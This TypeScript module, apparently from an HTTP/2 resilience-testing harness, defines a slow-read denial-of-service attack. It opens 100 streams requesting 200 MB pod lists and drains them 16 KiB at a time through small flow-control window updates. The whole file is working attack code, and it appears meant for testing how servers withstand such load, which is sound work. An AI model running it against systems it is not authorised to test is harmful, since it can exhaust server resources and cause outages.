// Lists of 200 MB that are read by 16 KiB a time.

import * as h2 from '../../harness/frames/h2-frames.ts'
import type { Attack } from '../attack.ts'
import { attackHttp2, closedLoop, head, request } from '../wire/http2.ts'

const LIST = '/api/v1/pods?bytes=200000000'
const WINDOW = 16_384

export const attack: Attack = {
  reference: 'lists read slowly',
  does: 'reads 100 lists of 200 MB, 16 KiB at a time',
  who: ['known', 'unknown'],
  answers: ['200', '401', '403', 'RST_STREAM REFUSED_STREAM'],
  run: (target, signal) =>
    attackHttp2(target, signal, { settings: [[h2.INITIAL_WINDOW_SIZE, WINDOW]] }, (connection) => {
      const timer = setInterval(() => {
        for (const stream of open) connection.send(h2.windowUpdate(stream, WINDOW))
      }, 100)
      connection.wire.socket.once('close', () => clearInterval(timer))
      const open: number[] = []
      const list = request(head(target, 'GET', LIST))
      return closedLoop(connection, 100, (stream) => {
        open.push(stream)
        return list(stream)
      })
    }),
}
